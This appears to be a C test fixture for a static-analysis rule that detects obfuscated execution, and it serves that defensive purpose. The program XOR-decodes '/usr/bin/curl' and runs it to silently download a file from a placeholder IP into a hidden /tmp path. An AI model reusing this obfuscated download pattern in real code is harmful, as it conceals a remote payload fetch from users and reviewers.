/*
 * behavior.obfuscated-execution: the decoder is a helper. deobf() XORs a
 * buffer in place; main() copies the encoded "/usr/bin/curl" into a buffer,
 * calls deobf() and runs the result. The decode loop and the exec are in
 * different functions, which is how such code is usually organised.
 */
#include <string.h>
#include <unistd.h>

static const unsigned char enc_tool[] = {0x75, 0x2f, 0x29, 0x28, 0x75, 0x38, 0x33,
                                         0x34, 0x75, 0x39, 0x2f, 0x28, 0x36};

static void deobf(char *buf, size_t n)
{
    for (size_t i = 0; i < n; i++)
        buf[i] ^= 0x5a;
}

int main(void)
{
    char tool[sizeof(enc_tool) + 1];

    memcpy(tool, enc_tool, sizeof(enc_tool));
    tool[sizeof(enc_tool)] = '\0';
    deobf(tool, sizeof(enc_tool));
    execl(tool, "curl", "-s", "-o", "/tmp/.cache", "http://198.51.100.7/p", (char *)NULL); // $ Alert[behavior.obfuscated-execution]
    return 1;
}
